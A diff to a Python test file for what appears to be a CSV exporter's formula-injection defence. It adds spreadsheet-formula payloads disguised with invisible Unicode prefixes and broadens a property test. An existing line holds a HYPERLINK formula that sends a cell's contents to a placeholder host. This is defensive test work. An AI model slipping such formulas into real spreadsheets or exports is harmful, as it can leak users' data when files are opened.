@@ -17,6 +17,16 @@ from tests.conftest import ROOT
 FORMULAS = [
     *('=HYPERLINK("http://example.com/?"&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "-"),
     *("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "-2 stops", "+10 contrast", "'=1+1", "''@x"),
+    *(
+        "\ufeff=1+1",
+        "\u200b=1+1",
+        "\u200e\u2060@x",
+        "\xad-x",
+        "\x00=1+1",
+        "\u034f=1+1",
+        " \u180e+x",
+        "\u3164=1",
+    ),
 ]
 
 
@@ -54,7 +64,7 @@ def test_in_a_csv_of_ones_own_an_apostrophe_before_a_sign_is_written_twice() -> 
     assert [row["request"] for row in requests] == ["-ish' look", "'-ish' look", "'warm' look"]
 
 
-@given(st.text(st.sampled_from("'=+-@ \t\r\n\",;1.eab")))
+@given(st.text(st.sampled_from("'=+-@ \t\r\n\",;1.eab\ufeff\u200b")))
 @example("'-5")
 @example("\r")
 @example("'\t=x;'-1;'=1;-1")
